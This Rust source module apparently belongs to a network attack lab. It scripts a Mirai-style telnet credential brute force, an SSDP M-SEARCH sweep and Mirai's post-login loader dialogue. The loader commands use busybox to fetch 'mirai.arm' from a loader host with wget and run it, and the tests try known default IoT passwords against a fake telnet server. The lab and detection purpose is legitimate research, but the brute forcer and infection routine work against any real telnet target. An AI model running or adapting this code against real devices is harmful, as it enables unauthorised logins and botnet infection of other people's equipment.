//! Attacks the lab scripts itself because no packaged tool performs them: Mirai's loader
//! dialogue after a telnet login, Mirai's one-credential-per-connection telnet brute force,
//! and unicast SSDP `M-SEARCH ssdp:all`. Each runs in a thread
//! inside the attacker's namespace, bounded by the phase's time limit.

use std::io::{Read, Write};
use std::net::{Ipv4Addr, SocketAddr, TcpStream};
use std::sync::atomic::{AtomicBool, Ordering};
use std::time::{Duration, Instant};

use crate::ssdp;

/// A scripted attack with its resolved addresses.
#[derive(Clone, Debug)]
pub enum Scripted {
    /// [`ssdp::search`] of `targets`.
    SsdpSearch {
        /// Hosts asked.
        targets: Vec<Ipv4Addr>,
        /// Rounds.
        rounds: u32,
        /// Milliseconds between rounds.
        interval_ms: u32,
    },
    /// [`telnet_brute`] of `target`.
    TelnetBrute {
        /// The telnet server.
        target: Ipv4Addr,
        /// Login and password pairs, tried in order.
        credentials: Vec<(String, String)>,
        /// Milliseconds between connections.
        pause_ms: u32,
    },
    /// [`telnet_infect`] of `target`.
    TelnetInfect {
        /// The telnet server.
        target: Ipv4Addr,
        /// Login and password.
        credential: (String, String),
        /// Where the bot would fetch its binary from (the attacker itself).
        loader: Ipv4Addr,
    },
}

impl Scripted {
    /// One line saying what runs, for the manifest.
    pub fn describe(&self) -> String {
        match self {
            Scripted::SsdpSearch {
                targets,
                rounds,
                interval_ms,
            } => format!(
                "(scripted) ssdp M-SEARCH ssdp:all x{rounds} every {interval_ms} ms to {}",
                targets
                    .iter()
                    .map(ToString::to_string)
                    .collect::<Vec<_>>()
                    .join(" ")
            ),
            Scripted::TelnetBrute {
                target,
                credentials,
                pause_ms,
            } => format!(
                "(scripted) Mirai brute force: telnet {target}, one connection per pair, {} pairs, {pause_ms} ms apart",
                credentials.len()
            ),
            Scripted::TelnetInfect {
                target, credential, ..
            } => format!(
                "(scripted) Mirai loader dialogue: telnet {target} login {}",
                credential.0
            ),
        }
    }

    /// Runs the attack in the caller's namespace until done or `stop`.
    ///
    /// # Errors
    /// The first socket error, as text.
    pub fn run(&self, stop: &AtomicBool) -> Result<(), String> {
        match self {
            Scripted::SsdpSearch {
                targets,
                rounds,
                interval_ms,
            } => ssdp::search(
                targets,
                *rounds,
                Duration::from_millis(u64::from(*interval_ms)),
                stop,
            )
            .map_err(|e| e.to_string()),
            Scripted::TelnetBrute {
                target,
                credentials,
                pause_ms,
            } => telnet_brute(
                SocketAddr::from((*target, 23)),
                credentials,
                Duration::from_millis(u64::from(*pause_ms)),
                stop,
            )
            .map(|_| ())
            .map_err(|e| e.to_string()),
            Scripted::TelnetInfect {
                target,
                credential,
                loader,
            } => telnet_infect(SocketAddr::from((*target, 23)), credential, *loader, stop)
                .map_err(|e| e.to_string()),
        }
    }
}

/// The shell commands Mirai's scanner and loader send after a successful login (as published
/// in analyses of the Mirai source): escape a restricted shell, check for busybox with a
/// marker applet that does not exist, inspect the system, fetch and run the bot.
pub fn mirai_commands(loader: Ipv4Addr) -> Vec<String> {
    vec![
        "enable".into(),
        "system".into(),
        "shell".into(),
        "sh".into(),
        "/bin/busybox ECCHI".into(),
        "/bin/busybox ps; /bin/busybox ECCHI".into(),
        "/bin/busybox cat /proc/mounts; /bin/busybox ECCHI".into(),
        "cd /tmp; /bin/busybox cp /bin/echo dvrHelper; >dvrHelper; /bin/busybox chmod 777 dvrHelper; /bin/busybox ECCHI".into(),
        format!("/bin/busybox wget http://{loader}/bins/mirai.arm -O - > dvrHelper; /bin/busybox ECCHI"),
        "./dvrHelper telnet.arm; /bin/busybox IHCCE".into(),
    ]
}

/// Reads from `s` until the text read ends in one of `marks` (then returns it) or `limit`
/// passes or `stop` is raised (then returns what was read).
fn read_until(
    s: &mut impl Read,
    marks: &[&str],
    limit: Duration,
    stop: &AtomicBool,
) -> std::io::Result<String> {
    let end = Instant::now() + limit;
    let mut got = Vec::new();
    let mut buf = [0u8; 512];
    while Instant::now() < end && !stop.load(Ordering::Relaxed) {
        match s.read(&mut buf) {
            Ok(0) => break,
            Ok(n) => {
                got.extend_from_slice(&buf[..n]);
                let text = String::from_utf8_lossy(&got);
                if marks
                    .iter()
                    .any(|m| text.trim_end().ends_with(m.trim_end()))
                {
                    break;
                }
            }
            Err(e) if crate::sys::timed_out(&e) => {}
            Err(e) => return Err(e),
        }
    }
    Ok(String::from_utf8_lossy(&got).into_owned())
}

/// How one telnet login attempt ended.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum LoginOutcome {
    /// A shell prompt came back.
    Shell,
    /// The login was refused (or no shell prompt came in time).
    Refused,
}

/// Opens a telnet connection to `target` and tries `credential` on it: waits for the login
/// prompt, sends the login, waits for the password prompt, sends the password and reads the
/// answer. Returns the connection (for more commands) and the outcome.
fn telnet_login(
    target: SocketAddr,
    credential: &(String, String),
    stop: &AtomicBool,
) -> std::io::Result<(TcpStream, LoginOutcome)> {
    let mut s = TcpStream::connect_timeout(&target, Duration::from_secs(3))?;
    let outcome = login_on(&mut s, credential, stop)?;
    Ok((s, outcome))
}

/// Tries `credential` on the telnet connection `s` (fresh, at its login prompt): waits for the
/// prompt, sends the login, waits for the password prompt, sends the password and reads the
/// answer. Sets a short read timeout and no delay on `s`.
///
/// # Errors
/// Socket errors.
pub fn login_on(
    s: &mut TcpStream,
    credential: &(String, String),
    stop: &AtomicBool,
) -> std::io::Result<LoginOutcome> {
    let wait = Duration::from_secs(3);
    s.set_read_timeout(Some(Duration::from_millis(100)))?;
    s.set_nodelay(true)?;
    read_until(s, &["login: "], wait, stop)?;
    s.write_all(format!("{}\r\n", credential.0).as_bytes())?;
    read_until(s, &["Password: "], wait, stop)?;
    s.write_all(format!("{}\r\n", credential.1).as_bytes())?;
    // A refusal may come only after the login's failure delay (BusyBox's is 3 s).
    let answer = read_until(s, &["# ", "incorrect\r\n"], 4 * wait, stop)?;
    Ok(if answer.trim_end().ends_with('#') {
        LoginOutcome::Shell
    } else {
        LoginOutcome::Refused
    })
}

/// Runs `commands` in a logged-in telnet session `s`, each after the shell's prompt, then
/// `exit`.
///
/// # Errors
/// Socket errors.
pub fn run_commands(
    s: &mut TcpStream,
    commands: &[String],
    stop: &AtomicBool,
) -> std::io::Result<()> {
    let wait = Duration::from_secs(3);
    for c in commands {
        if stop.load(Ordering::Relaxed) {
            break;
        }
        s.write_all(format!("{c}\r\n").as_bytes())?;
        read_until(s, &["# "], wait, stop)?;
    }
    s.write_all(b"exit\r\n")
}

/// Mirai's scanner brute force against `target`'s telnet: each pair of `credentials` on a
/// connection of its own, in order, `pause` between connections, until one logs in (that
/// session is closed with `exit`: Mirai hands a working login to its loader), the list ends
/// or `stop` is raised. Returns the number of connections made and whether one logged in.
///
/// # Errors
/// Connection or socket errors.
pub fn telnet_brute(
    target: SocketAddr,
    credentials: &[(String, String)],
    pause: Duration,
    stop: &AtomicBool,
) -> std::io::Result<(usize, bool)> {
    let mut tried = 0;
    for credential in credentials {
        if stop.load(Ordering::Relaxed) {
            break;
        }
        let (mut s, outcome) = telnet_login(target, credential, stop)?;
        tried += 1;
        if outcome == LoginOutcome::Shell {
            s.write_all(b"exit\r\n")?;
            return Ok((tried, true));
        }
        drop(s);
        let until = Instant::now() + pause;
        while Instant::now() < until && !stop.load(Ordering::Relaxed) {
            std::thread::sleep(Duration::from_millis(10).min(pause));
        }
    }
    Ok((tried, false))
}

/// Logs in to `target`'s telnet with `credential`, then sends [`mirai_commands`], each after
/// the shell's prompt.
///
/// # Errors
/// Connection or socket errors; a refused login.
pub fn telnet_infect(
    target: SocketAddr,
    credential: &(String, String),
    loader: Ipv4Addr,
    stop: &AtomicBool,
) -> std::io::Result<()> {
    let (mut s, outcome) = telnet_login(target, credential, stop)?;
    if outcome == LoginOutcome::Refused {
        return Err(std::io::Error::other("telnet login refused"));
    }
    run_commands(&mut s, &mirai_commands(loader), stop)
}

#[cfg(test)]
mod test {
    use super::*;
    use std::net::TcpListener;
    use std::sync::Arc;

    /// The fake telnet login on a loopback port, with its stop flag and thread.
    fn fake_login() -> (SocketAddr, Arc<AtomicBool>, std::thread::JoinHandle<()>) {
        let listener = TcpListener::bind((Ipv4Addr::LOCALHOST, 0)).unwrap();
        listener.set_nonblocking(true).unwrap();
        let addr = listener.local_addr().unwrap();
        let stop = Arc::new(AtomicBool::new(false));
        let login = crate::devices::TelnetLogin {
            credential: ("root".to_owned(), "xc3511".to_owned()),
            fail_delay: Duration::from_millis(300),
        };
        let s = Arc::clone(&stop);
        let t = std::thread::spawn(move || crate::devices::serve_telnet(&listener, login, &s));
        (addr, stop, t)
    }

    #[test]
    fn the_loader_dialogue_runs_against_the_fake_telnet_login() {
        let (addr, stop, server) = fake_login();
        let never = AtomicBool::new(false);
        let loader = Ipv4Addr::new(198, 18, 0, 66);
        let good = ("root".to_owned(), "xc3511".to_owned());
        telnet_infect(addr, &good, loader, &never).unwrap();
        let bad = ("root".to_owned(), "wrong".to_owned());
        let e = telnet_infect(addr, &bad, loader, &never).unwrap_err();
        assert!(e.to_string().contains("refused"), "{e}");
        stop.store(true, Ordering::Relaxed);
        server.join().unwrap();
    }

    #[test]
    fn the_brute_force_uses_one_connection_per_pair_and_stops_at_the_working_one() {
        let (addr, stop, server) = fake_login();
        let never = AtomicBool::new(false);
        let pair = |u: &str, p: &str| (u.to_owned(), p.to_owned());
        let creds = [
            pair("admin", "admin"),
            pair("root", "vizxv"),
            pair("root", "xc3511"),
            pair("root", "never-tried"),
        ];
        let pause = Duration::from_millis(5);
        assert_eq!(
            telnet_brute(addr, &creds, pause, &never).unwrap(),
            (3, true)
        );
        assert_eq!(
            telnet_brute(addr, &creds[..2], pause, &never).unwrap(),
            (2, false)
        );
        // A raised stop flag ends it before the next connection.
        let stopped = AtomicBool::new(true);
        assert_eq!(
            telnet_brute(addr, &creds, pause, &stopped).unwrap(),
            (0, false)
        );
        stop.store(true, Ordering::Relaxed);
        server.join().unwrap();
    }

    #[test]
    fn the_commands_name_busybox_and_the_loader() {
        let c = mirai_commands(Ipv4Addr::new(198, 18, 0, 66));
        assert!(c.iter().filter(|c| c.contains("/bin/busybox")).count() >= 5);
        assert!(c.iter().any(|c| c.contains("http://198.18.0.66/bins/")));
        // The fake login reads lines of at most 256 bytes.
        assert!(c.iter().all(|c| c.len() < 256));
    }
}
